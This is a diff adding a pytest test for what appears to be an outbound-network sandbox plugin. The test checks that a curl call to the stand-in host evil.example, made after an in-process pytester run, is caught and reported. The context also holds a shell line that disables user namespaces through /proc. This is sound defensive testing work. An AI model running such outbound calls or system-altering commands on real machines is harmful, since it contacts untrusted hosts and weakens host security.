@@ -372,6 +372,31 @@ def test_outbound_marker_counts_what_the_gateway_carries_out(
     assert "unmarked:network" in result.stdout.str()
 
 
+@needs_curl
+def test_a_session_run_in_process_inside_leaves_the_judging_to_the_run(
+    outside: OutsideServer, pytester: pytest.Pytester
+) -> None:
+    """pytester's in-process runs inside a sandboxed run (a plugin's own tests): the programs
+    the outer test runs after one are still that test's."""
+    _suite(pytester)
+    pytester.makepyfile(
+        r"""
+        import subprocess
+
+        pytest_plugins = ["pytester"]
+
+
+        def test_outer(pytester):
+            pytester.makepyfile("def test_inner(): pass")
+            pytester.runpytest("-p", "no:cacheprovider").assert_outcomes(passed=1)
+            subprocess.run(["curl", "-sS", "-m", "20", "http://evil.example/after"])
+        """
+    )
+    result = pytester.runpytest_subprocess("--outbound-sandbox", "-p", "no:cacheprovider")
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*from: curl -sS -m 20 http://evil.example/after (pid *"])
+
+
 FORBID = 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"'
 
 
